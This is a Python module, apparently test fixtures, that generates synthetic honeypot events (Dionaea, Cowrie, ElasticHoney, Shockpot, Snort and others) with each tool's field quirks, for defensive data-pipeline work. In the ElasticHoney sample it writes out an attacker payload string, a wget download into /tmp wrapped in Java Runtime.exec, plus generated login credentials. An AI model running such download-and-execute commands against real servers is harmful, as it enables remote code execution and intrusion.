"""Every honeypot that reports: how often, and what its events hold. One function a honeypot.

Cowrie's sessions have a file of their own (`cowrie`). The oddities are the honeypots' own: string
ports, a null `dest_ip`, a `bytes` that is text. Faults that come on the way stand in `drift`
and `damage`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from types import MappingProxyType

from stingar_dagster.samples import vocabulary as words
from stingar_dagster.samples.cowrie import cowrie, kippo
from stingar_dagster.samples.visits import Event, Visit


@dataclass(frozen=True, slots=True)
class Honeypot:
    """What it reports of a visit, and its share of all events (of any sum)."""

    report: Callable[[Visit], Iterator[Event]]
    share: float


def dionaea(visit: Visit) -> Iterator[Event]:
    """Connections have number ports; everything that follows one has string ports."""
    rng = visit.rng
    port, service = rng.choices(
        ((445, "smb"), (1433, "mssql"), (3306, "mysql"), (1883, "mqtt"), (5060, "sip")),
        (50, 25, 15, 5, 5),
    )[0]
    connection = visit.event("dionaea.connections", "Dionaea", "dionaea", dest_port=port)
    if rng.random() < 0.2:
        connection["src_ip"] = _mapped(visit.source.address)
    yield connection | {"dionaea_action": rng.choice(("accept", "accept", "connect", "reject"))}
    while rng.random() < 0.45:
        yield (
            connection
            | {"type": "dionaea.capture", "src_port": str(visit.src_port), "dest_port": str(port)}
            | dict.fromkeys(_DIONAEA_CAPTURE)
            | _dionaea_capture(visit, service)
        )


_DIONAEA_CAPTURE = (
    "url", "md5", "sha512", "action", "status", "username", "password", "smb_uuid",
    "smb_transfersyntax", "smb_opnum", "cmd", "virustotal", "mqtt_action", "mqtt_clientid",
    "mqtt_willtopic", "mqtt_willmessage", "mqtt_message", "sip_data",
)  # fmt: skip


def _dionaea_capture(visit: Visit, service: str) -> Event:
    rng, loot = visit.rng, visit.campaign.loot
    if service == "smb" and rng.random() < 0.3:
        return {
            "signature": "Download complete event",
            "url": loot.url,
            "md5": loot.md5,
            "sha512": loot.sha512,
            "status": "complete",
        }
    if service == "smb":
        return {
            "signature": "SMB DCERPC request event",
            "smb_uuid": "4b324fc8-1670-01d3-1278-5a47bf6ee188",
            "smb_opnum": str(rng.choice((15, 31))),
        }
    if service == "mqtt":
        return {
            "signature": "MQTT publish event",
            "mqtt_action": "publish",
            "mqtt_clientid": f"client-{rng.randrange(100)}",
            "mqtt_message": "on",
        }
    if service == "sip":
        return {
            "signature": "SIP command event",
            "sip_data": {"method": "OPTIONS", "user_agent": "friendly-scanner"},
        }
    username, password = visit.credentials()
    return {
        "signature": f"{service.upper()} login event",
        "action": "login",
        "username": "sa" if service == "mssql" else username,
        "password": password,
    }


def _mapped(address: str) -> str:
    """As a socket that listens on both IP versions gives it."""
    return address if ":" in address else f"::ffff:{address}"


def conpot(visit: Visit) -> Iterator[Event]:
    kind, port = visit.rng.choice(
        (("s7comm", 102), ("modbus", 502), ("http", 80), ("snmp", 161), ("bacnet", 0))
    )
    event = visit.event(
        f"conpot.events-{kind}", "Conpot", "conpot", dest_port=port, severity="medium"
    )
    yield event | {"dest_ip": None}


def glastopf(visit: Visit) -> Iterator[Event]:
    event = visit.event("glastopf.events", "Glastopf", "glastopf", dest_port=80)
    yield event | {"dest_ip": None, "request_url": visit.rng.choice(words.WEB_PATHS)}


def amun(visit: Visit) -> Iterator[Event]:
    yield visit.event(
        "amun.events", "Amun", "amun", dest_port=visit.rng.choice((445, 139, 135, 3127))
    )


def beeswarm(visit: Visit) -> Iterator[Event]:
    yield visit.event(
        "beeswarm.hive", "Beeswarm", "beeswarm", dest_port=visit.rng.choice((22, 21, 25, 110, 5900))
    )


def wordpot(visit: Visit) -> Iterator[Event]:
    event = visit.event(
        "wordpot.alerts",
        "Wordpot",
        "wordpot",
        dest_port="80",
        signature="Wordpress Exploit, Scan, or Enumeration Attempted",
    )
    for path in visit.rng.sample(words.WORDPRESS_PATHS, visit.rng.randint(1, 4)):
        yield event | {"request_url": path}


def shockpot(visit: Visit) -> Iterator[Event]:
    loot = visit.campaign.loot
    event = visit.event(
        "shockpot.events",
        "ThreatStream Shockpot",
        "shockpot",
        dest_port=80,
        signature="Shellshock Exploit Attempted",
    )
    yield event | {
        "src_port": 0,
        "url": loot.url,
        "request_url": f"http://{visit.sensor.address}/cgi-bin/status",
        "md5": loot.md5,
        "sha1": loot.sha1,
        "sha256": loot.sha256,
        "sha512": loot.sha512,
    }


def elastichoney(visit: Visit) -> Iterator[Event]:
    loot = visit.campaign.loot
    event = visit.event("elastichoney.events", "ElasticHoney", "elastichoney", dest_port=9200) | {
        "src_port": 0,
        "user_agent": visit.rng.choice(words.USER_AGENTS),
    }
    if visit.rng.random() < 0.6:
        yield event | {
            "severity": "medium",
            "signature": "ElasticSearch Recon Attempted",
            "request_url": visit.rng.choice(("/", "/_cat/indices", "/_nodes")),
        }
        return
    command = f"wget {loot.url} -O /tmp/{loot.file}"
    script = f'Runtime.getRuntime().exec("{command}")'
    yield event | {
        "signature": "ElasticSearch Exploit Attempted",
        "request_url": "/_search?pretty",
        "elastichoney_form": '{"script_fields":{"x":{"script":"..."}}}',
        "elastichoney_payload": script,
        "command": command,
        "url": loot.url,
        "sha256": loot.sha256,
    }


def elasticpot(visit: Visit) -> Iterator[Event]:
    event = visit.event(
        "elasticpot.events",
        "elasticpot",
        "elasticpot",
        dest_port=9200,
        signature="Connection to honeypot",
    )
    yield event | {
        "eventid": "elasticpot.recon",
        "message": "Scan",
        "url": visit.rng.choice(("/", "/_cat/indices", "/_nodes")),
        "request": "GET",
        "user_agent": visit.rng.choice(words.USER_AGENTS),
    }


def rdphoney(visit: Visit) -> Iterator[Event]:
    cookie = b"\x03\x00\x00*%\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"
    event = visit.event("rdphoney.sessions", "RDPHoney", "rdphoney", dest_port=3389)
    yield event | {
        "username": visit.rng.choice((None, "Administr", "hello", "a")),
        "data": base64.b64encode(cookie).decode(),
    }


def uhp(visit: Visit) -> Iterator[Event]:
    app, port = visit.rng.choice(((None, 5555), ("telnet", 23), ("smtp", 25)))
    event = visit.event("uhp.events", "UHP", app, dest_port=port)
    for message in visit.rng.sample(("root\r\n", "EHLO mail.example.com\r\n", "\x00\x9c"), 2):
        yield event | {"action": "receive", "message": repr(message)}


def spylex(visit: Visit) -> Iterator[Event]:
    yield _web("spylex.events", "silex", "spylex", visit, dest_port=80) | {"files": {}}


def big_hp(visit: Visit) -> Iterator[Event]:
    """Its ports are text."""
    event = _web("big-hp.events", "big-ip", "big-hp", visit, dest_port="443")
    yield event | {"src_port": str(visit.src_port)}


def _web(type: str, vendor_product: str, app: str, visit: Visit, *, dest_port: int | str) -> Event:
    """A web honeypot that passes on the request as objects, whose keys the visitor chose."""
    path = visit.rng.choice(words.WEB_PATHS)
    posted = visit.rng.random() < 0.4
    username, password = visit.credentials()
    return visit.event(type, vendor_product, app, dest_port=dest_port) | {
        "eventid": "POST" if posted else "GET",
        "path": path,
        "full_path": f"{path}?",
        "args": {"id": str(visit.rng.randrange(1000))} if visit.rng.random() < 0.3 else {},
        "form_data": {"user.name": username, "pass word": password} if posted else {},
        "headers": {
            "Host": visit.sensor.address,
            "User-Agent": visit.rng.choice(words.USER_AGENTS),
            f"X-Probe-{visit.rng.randrange(500)}": "1",
        },
    }


def ssh_auth_logger(visit: Visit) -> Iterator[Event]:
    """Its ports are text."""
    event = visit.event("ssh-auth-logger", "ssh-auth-logger", "ssh-auth-logger", dest_port="22") | {
        "src_port": str(visit.src_port)
    }
    attempted = "SSH login attempted on ssh-auth-logger honeypot with"
    for _ in range(visit.rng.randint(1, 4)):
        username, password = visit.credentials()
        if visit.rng.random() < 0.1:
            fingerprint = base64.b64encode(visit.rng.randbytes(32)).decode().rstrip("=")
            yield event | {
                "signature": f"{attempted} key",
                "ssh_username": username,
                "ssh_fingerprint": f"SHA256:{fingerprint}",
                "keytype": "ssh-rsa",
            }
        else:
            yield event | {
                "signature": f"{attempted} password",
                "ssh_username": username,
                "ssh_password": password,
            }


def honeydb_agent(visit: Visit) -> Iterator[Event]:
    """Its numbers are text."""
    service, port = visit.rng.choice((("Telnet", "23"), ("Redis", "6379"), ("VNC", "5900")))
    event = visit.event("honeydb-agent", "honeydb-agent", "honeydb-agent", dest_port=port) | {
        "src_port": str(visit.src_port),
        "service": service,
    }
    yield event | {"hdb_event": "CONNECT", "bytes": "0", "data": ""}
    data = visit.rng.choice(("root", "INFO", "RFB 003.008"))
    yield event | {"hdb_event": "RX", "bytes": str(len(data)), "data": data}


def snort(visit: Visit) -> Iterator[Event]:
    """Its transport is upper-case."""
    rng = visit.rng
    message, rule, priority = rng.choice(words.IDS_RULES)
    length = rng.randrange(40, 1500)
    event = visit.event(
        "snort.alerts",
        "Snort",
        "snort",
        dest_port=rng.choice((22, 1433, 3306, 3389, 161)),
        signature=message,
        transport="UDP" if "udp" in message else "TCP",
    )
    yield event | {
        "snort_header": f"1:{rule}:{rng.randrange(1, 20)}",
        "snort_classification": rng.randrange(1, 35),
        "snort_priority": priority,
        "ip_id": rng.randrange(65536),
        "ip_ttl": rng.randrange(30, 128),
        "ip_len": length,
        "ip_tos": 0,
        "eth_src": "00:00:5e:00:53:01",
        "eth_dst": "00:00:5e:00:53:02",
        "tcp_len": None if "udp" in message else 20,
        "tcp_flags": None if "udp" in message else "******S*",
        "udp_len": length - 20 if "udp" in message else None,
    }


def suricata(visit: Visit) -> Iterator[Event]:
    message, rule, _ = visit.rng.choice(words.IDS_RULES)
    event = visit.event(
        "suricata.events",
        "Suricata",
        "suricata",
        dest_port=visit.rng.choice((22, 1433, 3306, 3389, 161)),
        signature=message,
    )
    yield event | {
        "suricata_action": "allowed",
        "suricata_signature_id": rule,
        "suricata_signature_rev": visit.rng.randrange(1, 20),
    }


def p0f(visit: Visit) -> Iterator[Event]:
    event = visit.event(
        "p0f.events",
        "p0f",
        "p0f",
        dest_port=visit.rng.choice((22, 23, 80, 445)),
        signature="Packet Observed by p0f",
        severity="informational",
    )
    yield event | {
        "p0f_app": None,
        "p0f_link": visit.rng.choice((None, "Ethernet or modem", "generic tunnel or VPN")),
        "p0f_os": visit.rng.choice(words.OPERATING_SYSTEMS),
        "p0f_uptime": visit.rng.choice((None, f"{visit.rng.randrange(900)} min")),
    }


HONEYPOTS: Mapping[str, Honeypot] = MappingProxyType(
    {
        "cowrie": Honeypot(cowrie, share=85.0),
        "dionaea": Honeypot(dionaea, share=7.0),
        "kippo": Honeypot(kippo, share=0.8),
        "conpot": Honeypot(conpot, share=0.5),
        "glastopf": Honeypot(glastopf, share=0.4),
        "amun": Honeypot(amun, share=0.3),
        "beeswarm": Honeypot(beeswarm, share=0.3),
        "wordpot": Honeypot(wordpot, share=0.4),
        "shockpot": Honeypot(shockpot, share=0.3),
        "elastichoney": Honeypot(elastichoney, share=0.4),
        "elasticpot": Honeypot(elasticpot, share=0.4),
        "rdphoney": Honeypot(rdphoney, share=0.5),
        "uhp": Honeypot(uhp, share=0.4),
        "spylex": Honeypot(spylex, share=0.3),
        "big-hp": Honeypot(big_hp, share=0.4),
        "ssh-auth-logger": Honeypot(ssh_auth_logger, share=0.4),
        "honeydb-agent": Honeypot(honeydb_agent, share=0.4),
        "snort": Honeypot(snort, share=0.6),
        "suricata": Honeypot(suricata, share=0.6),
        "p0f": Honeypot(p0f, share=0.6),
    }
)
